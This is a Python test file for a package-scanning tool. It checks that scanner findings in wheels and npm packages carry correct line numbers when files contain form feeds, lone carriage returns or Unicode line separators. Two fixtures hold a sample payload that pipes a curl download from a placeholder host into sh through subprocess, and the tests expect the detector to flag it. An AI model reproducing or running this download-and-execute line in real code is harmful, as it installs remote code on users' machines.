"""Line numbers as Python and the content rules count them: a form feed (or another character
`str.splitlines()` breaks at) inside a line must not move what the evidence shows."""

from __future__ import annotations

from pathlib import Path

from package_analysis.analysis import engine, inputs, layout
from package_analysis.analysis.model import PackageRef

PACKAGE = PackageRef("pypi", "demo-widget", "1.0.0", "pkg:pypi/demo-widget@1.0.0")


def test_lines_break_where_python_breaks_them() -> None:
    assert inputs.lines("a\x0cb\nc\x1cd\u2028e\r\nf\n") == ["a\x0cb", "c\x1cd\u2028e", "f"]
    assert inputs.lines("a\n\nb") == ["a", "", "b"]
    assert inputs.lines("") == []
    assert inputs.lines("a\rb\r\nc", universal=True) == ["a", "b", "c"]


def test_a_finding_shows_its_own_line_after_form_feeds(tmp_path: Path) -> None:
    """Two form feeds on the first line once numbered the comment two lines below as the
    payload's line: every snippet on the payload showed `# run the installer` instead."""
    code = (
        "import subprocess  # \x0c\x0c\n"
        "# run the installer\n"
        "x = 1\n"
        "subprocess.run('curl -s https://x.example.invalid/i.sh | sh', shell=True)\n"
    )
    pkg = tmp_path / "pkg"
    (pkg / "demo_widget").mkdir(parents=True)
    (pkg / "demo_widget" / "__init__.py").write_text(code)
    info = pkg / "demo_widget-1.0.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\n")
    (info / "WHEEL").write_text("Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    (info / "RECORD").write_text("")
    found = engine.scan_tree(pkg, ecosystem="pypi", package=PACKAGE, artifact_sha256="0" * 64)
    on_payload = [f for f in found if f.line == 4]
    assert {f.rule for f in on_payload} >= {"PY-DOWNLOAD-EXEC", "CNT-DOWNLOAD-EXEC"}, found
    for f in on_payload:
        assert f.snippet.startswith("subprocess.run('curl"), (f.rule, f.snippet)


def _wheel(tmp_path: Path, code: str) -> Path:
    pkg = tmp_path / "pkg"
    (pkg / "demo_widget").mkdir(parents=True)
    (pkg / "demo_widget" / "__init__.py").write_bytes(code.encode())
    info = pkg / "demo_widget-1.0.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\n")
    (info / "WHEEL").write_text("Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    (info / "RECORD").write_text("")
    return pkg


def test_a_lone_carriage_return_ends_a_line_for_every_rule(tmp_path: Path) -> None:
    """CPython reads a lone CR as a line end (so does an editor); the content rules once
    counted only LF: a CR-only module was one line to them, its Python findings had no
    snippet, and its content findings showed the whole file as line 1."""
    code = (
        "import subprocess\r# run the installer\rx = 1\r"
        "subprocess.run('curl -s https://x.example.invalid/i.sh | sh', shell=True)\r"
    )
    found = engine.scan_tree(
        _wheel(tmp_path, code), ecosystem="pypi", package=PACKAGE, artifact_sha256="0" * 64
    )
    assert {f.rule for f in found if f.line == 4} >= {"PY-DOWNLOAD-EXEC", "CNT-DOWNLOAD-EXEC"}
    assert not [f for f in found if f.line == 1], found
    for f in found:
        if f.line == 4:
            assert f.snippet.startswith("subprocess.run('curl"), (f.rule, f.snippet)


def test_universal_newlines_only_where_a_lone_cr_is() -> None:
    crlf = b"a = 1\r\nb = 2\r\n"
    assert inputs.universal_newlines(crlf) is crlf  # untouched: no copy, no change
    assert inputs.universal_newlines(b"a\rb\r\nc") == b"a\nb\nc"
    assert inputs.python_source(b"a = 1\rb = 2\r")[0] == "a = 1\nb = 2\n"


def test_tool_tables_are_found_on_their_own_lines() -> None:
    """U+2028 inside a TOML string (allowed there) once counted as a line break, so every
    line after it was taken for the one above: a `[tool.*]` table's range slid over the
    table that follows it, and what that table held weighed as maintainers' tooling."""
    raw = '[tool.demo]\nnote = "a\u2028b\u2028c"\n[project]\nname = "x"\n'.encode()
    assert layout.tool_table_lines(raw) == {1, 2}


def test_install_script_evidence_is_its_own_line(tmp_path: Path) -> None:
    """package.json may hold U+2028 or U+0085 in a string: the hook's line and snippet are
    counted by line feeds, as the content rules count them."""
    pkg = tmp_path / "package"
    pkg.mkdir()
    (pkg / "package.json").write_bytes(
        (
            '{\n  "name": "demo-widget",\n  "description": "one\u2028two\x85three",\n'
            '  "version": "1.0.0",\n  "scripts": {\n'
            '    "postinstall": "node setup.js"\n  }\n}\n'
        ).encode()
    )
    (pkg / "setup.js").write_text("console.log('hi')\n")
    npm = PackageRef("npm", "demo-widget", "1.0.0", "pkg:npm/demo-widget@1.0.0")
    found = engine.scan_tree(pkg, ecosystem="npm", package=npm, artifact_sha256="0" * 64)
    hooks = [f for f in found if f.rule == "NPM-INSTALL-SCRIPT"]
    assert hooks, found
    assert hooks[0].line == 6 and '"postinstall"' in hooks[0].snippet, hooks[0]
